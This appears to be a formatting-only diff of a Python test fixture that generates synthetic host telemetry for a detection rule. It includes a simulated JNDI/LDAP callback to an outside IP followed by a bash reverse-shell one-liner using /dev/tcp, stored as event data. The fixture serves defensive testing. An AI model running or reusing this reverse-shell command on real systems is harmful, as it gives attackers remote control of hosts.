@@ -39,29 +39,78 @@ def sample_documents(hosts: int = 40, per_host: int = 25, seed: int = 7) -> list
             event_id = f"{host_id[:8]}-{index:04d}"
             roll = rng.random()
             if roll < 0.45:
-                add(connection(ts_ms=clock, host_id=host_id, pid=rng.randrange(300, 9000),
-                               dest_ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
-                               event_id=event_id, executable=rng.choice(_SERVICES), dest_port=443))
+                add(
+                    connection(
+                        ts_ms=clock,
+                        host_id=host_id,
+                        pid=rng.randrange(300, 9000),
+                        dest_ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
+                        event_id=event_id,
+                        executable=rng.choice(_SERVICES),
+                        dest_port=443,
+                    )
+                )
             elif roll < 0.7:
                 # Java talking to its database on a private address: the sequence's first stage fails.
-                add(connection(ts_ms=clock, host_id=host_id, pid=4242, dest_ip="172.20.3.14",
-                               event_id=event_id, dest_port=5432))
+                add(
+                    connection(
+                        ts_ms=clock, host_id=host_id, pid=4242, dest_ip="172.20.3.14", event_id=event_id, dest_port=5432
+                    )
+                )
             elif roll < 0.85:
-                add(execution(ts_ms=clock, host_id=host_id, pid=rng.randrange(9000, 30000), parent_pid=1,
-                              event_id=event_id, name="logrotate", args=["/usr/sbin/logrotate", "/etc/logrotate.conf"],
-                              parent_executable="/usr/lib/systemd/systemd", parent_args=["/sbin/init"]))
+                add(
+                    execution(
+                        ts_ms=clock,
+                        host_id=host_id,
+                        pid=rng.randrange(9000, 30000),
+                        parent_pid=1,
+                        event_id=event_id,
+                        name="logrotate",
+                        args=["/usr/sbin/logrotate", "/etc/logrotate.conf"],
+                        parent_executable="/usr/lib/systemd/systemd",
+                        parent_args=["/sbin/init"],
+                    )
+                )
             else:
                 # Jenkins runs build steps through sh: excluded by the rule's own launcher list.
-                add(execution(ts_ms=clock, host_id=host_id, pid=rng.randrange(9000, 30000), parent_pid=777,
-                              event_id=event_id, name="sh", args=["/bin/sh", "-xe", "/tmp/jenkins123.sh"],
-                              parent_args=["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-jar",
-                                           "/usr/share/java/jenkins.war"]))
+                add(
+                    execution(
+                        ts_ms=clock,
+                        host_id=host_id,
+                        pid=rng.randrange(9000, 30000),
+                        parent_pid=777,
+                        event_id=event_id,
+                        name="sh",
+                        args=["/bin/sh", "-xe", "/tmp/jenkins123.sh"],
+                        parent_args=[
+                            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
+                            "-jar",
+                            "/usr/share/java/jenkins.war",
+                        ],
+                    )
+                )
     attack_ms = START_MS + 6_000
-    add(connection(ts_ms=attack_ms, host_id=ATTACKED_HOST, pid=4242, dest_ip="185.220.101.4",
-                   event_id="attack-ldap-callback", dest_port=1389))
-    add(execution(ts_ms=attack_ms + 1_180, host_id=ATTACKED_HOST, pid=31337, parent_pid=4242,
-                  event_id="attack-reverse-shell", name="bash",
-                  args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"]))
+    add(
+        connection(
+            ts_ms=attack_ms,
+            host_id=ATTACKED_HOST,
+            pid=4242,
+            dest_ip="185.220.101.4",
+            event_id="attack-ldap-callback",
+            dest_port=1389,
+        )
+    )
+    add(
+        execution(
+            ts_ms=attack_ms + 1_180,
+            host_id=ATTACKED_HOST,
+            pid=31337,
+            parent_pid=4242,
+            event_id="attack-reverse-shell",
+            name="bash",
+            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
+        )
+    )
     ordered = sorted(docs, key=lambda item: (item[2]["@timestamp"], item[1]))
     return [doc for _, _, doc in ordered]
 
